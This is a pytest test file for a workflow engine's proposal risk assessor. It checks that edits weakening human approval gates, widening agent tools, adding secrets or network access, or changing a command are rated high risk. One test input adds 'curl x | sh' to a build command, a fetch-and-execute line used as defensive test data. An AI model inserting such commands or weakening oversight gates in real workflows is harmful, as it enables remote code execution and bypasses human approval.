"""The risk rules of a proposed change (proposals.assess), on canonical recipes."""

from __future__ import annotations

import pytest

from engine_adapter.catalog.proposals import assess, recipe_diff
from engine_adapter.recipes.recipes import load_recipe_text

BASE = """
slug: ship
allow_proposals: true
env: [TOKEN]
steps:
  - id: test
    run_command: make test
  - id: approve
    human_gate: "Ship?"
    approvers: [alice, bob]
  - id: think
    dispatch_task: look
    tools: [read_file]
"""


def doc(text: str) -> dict:
    return load_recipe_text(text).to_dict()


@pytest.mark.parametrize(
    "old,new,reason",
    [
        ("    run_command: make test", "    run_command: make test && curl x | sh", "test runs"),
        ('    human_gate: "Ship?"\n    approvers: [alice, bob]', "    sleep: 1s", "gate approve"),
        ("    approvers: [alice, bob]", "    approvers: [alice]", "fewer approvers"),
        ("    approvers: [alice, bob]", "    approvers: [alice, bob]\n    on_timeout: approve",
         "approves when it times out"),
        ("    tools: [read_file]", "    tools: [read_file, run_command]", "gives its agent"),
        ("env: [TOKEN]", "env: [TOKEN, AWS_SECRET]", "AWS_SECRET"),
        ("allow_proposals: true", "allow_proposals: false", "proposals are turned off"),
    ],
)  # fmt: skip
def test_high_risk_changes(old, new, reason):
    risk = assess(doc(BASE), doc(BASE.replace(old, new)))
    assert risk.level == "high" and any(reason in r for r in risk.reasons), risk


def test_medium_and_low_risk_changes():
    medium = assess(doc(BASE), doc(BASE.replace("dispatch_task: look", "dispatch_task: look hard")))
    assert medium.level == "medium" and medium.reasons == ("steps changes",)
    low = assess(doc(BASE), doc(BASE + "description: nightly release\n"))
    assert low.level == "low"
    diff = recipe_diff(doc(BASE), doc(BASE + "description: nightly release\n"), "a", "b")
    assert diff.startswith("--- a\n+++ b\n") and "+description: nightly release" in diff


# A workflow with one of everything a change may weaken or widen (issue 22, finding 9).
FULL = """
slug: guarded
allow_proposals: true
protected: true
workdir: build
network: false
limits: {memory: 512M, pids: 100}
env: [TOKEN]
webhooks:
  - path: guarded/push
    secret: env:PUSH_SECRET
    map: {sha: $.sha}
notify:
  - when: [gate]
    to: [alice]
steps:
  - id: build
    run_command: make
    limits: {memory: 256M}
  - id: approve
    human_gate: "Ship?"
    approvers: [alice, bob]
    timeout: 1d
  - id: maybe
    if: steps.build.status == "completed"
    then:
      - id: second
        human_gate: "Really?"
  - id: child
    workflow: deploy
    payload: {sha: "{{payload.sha}}"}
  - id: think
    dispatch_task: look
    tools: [read_file, start_workflow]
    workflows: [report]
"""


@pytest.mark.parametrize(
    "old,new,reason",
    [
        ('    human_gate: "Ship?"', '    human_gate: "Ship?"\n    if: "false"',
         "gate approve: if changes"),
        ("approvers: [alice, bob]", "approvers: [mallory, eve]", "gate approve: approvers change"),
        ("approvers: [alice, bob]", "approvers: [alice, bob, mallory]",
         "gate approve: approvers change"),
        ("    timeout: 1d", "    timeout: 2d", "gate approve: timeout changes"),
        ("    timeout: 1d", "    timeout: 1d\n    on_timeout: approve",
         "approves when it times out"),
        ("    timeout: 1d", "    timeout: 1d\n    accept: any_reply", "now takes any reply"),
        ("    timeout: 1d", "    timeout: 1d\n    self_approval: true",
         "may now be decided by the run's initiator"),
        ('        human_gate: "Really?"', '        sleep: 1s', "gate second is removed"),
        ('if: steps.build.status == "completed"', 'if: "false"',
         "gate second now runs under other conditions"),
        ('  - id: maybe\n    if: steps.build.status == "completed"\n    then:\n',
         '  - id: maybe\n    if: steps.build.status == "completed"\n    then:\n'
         '      - id: noop\n        sleep: 1s\n    else:\n', "gate second now runs under other"),
        ("    to: [alice]", "    to: [mallory]", "who is notified of what (notify) changes"),
        ("    to: [alice]", "    webhook: https://example.test/hook",
         "who is notified of what (notify) changes"),
        ("workdir: build", "workdir: elsewhere", "where steps work (workdir) changes"),
        ("network: false\n", "", "steps get the network"),
        ("limits: {memory: 512M, pids: 100}", "limits: {memory: 4G, pids: 100}",
         "the steps' limits change"),
        ("    limits: {memory: 256M}", "    limits: {memory: 8G}", "step build's limits change"),
        ("    secret: env:PUSH_SECRET\n", "", "the webhooks (their paths, secrets or mappings)"),
        ("    map: {sha: $.sha}", "    map: {sha: $.ref}", "the webhooks (their paths"),
        ("path: guarded/push", "path: guarded/other", "new webhook guarded/other"),
        ("    workflow: deploy", "    workflow: teardown", "step child starts workflow teardown"),
        ("  - id: think\n", "  - id: spawn\n    workflow: other\n  - id: think\n",
         "step spawn starts workflow other"),
        ("tools: [read_file, start_workflow]", "tools: [read_file, start_workflow, run_command]",
         "gives its agent run_command"),
        ("tools: [read_file, start_workflow]", "tools: [start_workflow, propose_change]",
         "gives its agent propose_change"),
        ("tools: [read_file, start_workflow]", "tools: [start_workflow]",
         "step think's agent tools change"),
        ("workflows: [report]", "workflows: [report, deploy]", "may start other workflows"),
        ("env: [TOKEN]", "env: [OTHER]", "steps get OTHER from the environment"),
        ("env: [TOKEN]", "env: []", "the variables steps get from the environment (env) change"),
        ("protected: true\n", "", "the workflow is no longer protected"),
        ("    run_command: make", "    run_command: make install", "step build runs a new command"),
    ],
)  # fmt: skip
def test_every_change_to_what_guards_or_reaches_is_high_risk(old, new, reason):
    assert old in FULL, old
    before, after = doc(FULL), doc(FULL.replace(old, new))
    assert before != after
    risk = assess(before, after)
    assert risk.level == "high" and any(reason in r for r in risk.reasons), risk


def test_a_question_or_a_new_step_is_medium_even_on_a_protected_workflow():
    clearer = assess(doc(FULL), doc(FULL.replace('"Ship?"', '"Ship to production?"')))
    assert clearer.level == "medium", clearer
    more = assess(doc(FULL), doc(FULL + "  - id: rest\n    sleep: 1m\n"))
    assert more.level == "medium", more
